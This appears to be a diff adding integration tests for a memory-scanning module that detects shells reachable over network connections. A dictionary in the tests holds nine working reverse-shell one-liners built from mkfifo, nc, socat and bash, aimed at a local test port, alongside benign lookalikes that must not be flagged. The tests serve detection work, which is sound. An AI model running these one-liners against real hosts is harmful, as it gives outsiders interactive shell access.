@@ -20,7 +20,7 @@ from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.identi
 from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.proc import processes
 
 from tests.integration import _memory
-from tests.integration._memory_techniques.bench import Bench, Started, wait_for
+from tests.integration._memory_techniques.bench import Bench, Started, descendants, wait_for
 from tests.integration._memory_techniques.fixtures import NEEDS, bench, programs
 from tests.support import give_up, paths
 
@@ -125,6 +125,63 @@ def test_capabilities_of_an_interpreter(bench: Bench) -> None:
     seen = _seen(_as_nobody(bench, program, "-I", "-S", "-c", "import time; time.sleep(1000)"))
     os.unlink(program)
     assert seen == {("interpreter_with_capabilities", "high")}
+
+
+_OVER_STREAMS = {
+    "fifo": "mkfifo f; sh -i <f 2>&1 | nc 127.0.0.1 {port} >f &",
+    "cat": "mkfifo f; cat f | sh -i 2>&1 | nc 127.0.0.1 {port} >f &",
+    "two fifos that are removed": "mkfifo a b; sh -i <a >b 2>&1 & nc 127.0.0.1 {port} >a <b & sleep 0.3; rm a b;",
+    "two names": "mkfifo a; ln a b; sh -i <a 2>&1 | nc 127.0.0.1 {port} >b &",
+    "many hops": "mkfifo a b; cat a | cat | cat | bash 2>&1 | cat | cat >b & cat b | nc 127.0.0.1 {port} | cat >a &",
+    "script": "mkfifo a; bash a 2>&1 | nc 127.0.0.1 {port} >a &",
+    "socat": "socat tcp:127.0.0.1:{port} exec:/bin/sh,pipes &",
+    "socat and a fifo": "mkfifo a; sh <a 2>&1 | socat - tcp:127.0.0.1:{port} >a &",
+    "pipes alone": "nc -l -s 127.0.0.1 -p {free} 0<&- | sh 2>&1 | nc 127.0.0.1 {port} &"
+    " sleep 0.3; nc 127.0.0.1 {free} &",
+}
+
+
+@pytest.mark.requires("command:nc", "command:socat")
+@pytest.mark.parametrize("script", [pytest.param(script, id=name) for name, script in _OVER_STREAMS.items()])
+def test_a_shell_that_a_connection_reaches_over_streams(script: str, bench: Bench) -> None:
+    seen = _around_a_connection(bench, script)
+    assert {one for one in seen if one[1] != "informational"} == {("shell_on_connection", "high")}
+
+
+_ORDINARY_STREAMS = {
+    "a fifo that a script writes": "mkfifo f; sh <f & (echo sleep 1000; sleep 1000) >f &"
+    " nc 127.0.0.1 {port} </dev/null &",
+    "a logger": "mkfifo f; nc 127.0.0.1 {port} <f & sh -c 'sleep 1000; true' >f &",
+    "a pipe to a logger": "sh -c 'sleep 1000; true' | nc 127.0.0.1 {port} &",
+    "automation": """/usr/bin/python3 -c '
+import socket, subprocess
+connection = socket.create_connection(("127.0.0.1", {port}))
+shell = subprocess.Popen(["bash", "-s"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+shell.stdin.write(b"sleep 1000; true\\n"); shell.stdin.flush(); shell.wait()' &""",
+}
+
+
+@pytest.mark.requires("command:nc")
+@pytest.mark.parametrize("script", [pytest.param(script, id=name) for name, script in _ORDINARY_STREAMS.items()])
+def test_streams_beside_a_connection_are_ordinary(script: str, bench: Bench) -> None:
+    assert {severity for _subtype, severity in _around_a_connection(bench, script)} <= {"informational"}
+
+
+def _around_a_connection(bench: Bench, script: str) -> set[tuple[str, str]]:
+    """Return what is seen of the processes of a script that has connected, each with its severity."""
+    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_server(("127.0.0.1", 0)) as other:
+        free = other.getsockname()[1]
+        other.close()
+        line = script.format(port=server.getsockname()[1], free=free)
+        started = bench.run("/bin/sh", "-c", f"{line} echo ready; sleep 1000", cwd=bench.scratch)
+        server.settimeout(30)
+        connection, _address = server.accept()
+        with connection:
+            time.sleep(0.5)
+            tree = (started.pid, *descendants(started.pid))
+            result = _memory.scan(*tree)
+    assert _memory.skipped(result) == []
+    return {(sign["subtype"], sign["severity"]) for sign in _memory.signs(result)}
 
 
 def test_a_reverse_shell_without_shellcode(bench: Bench) -> None:
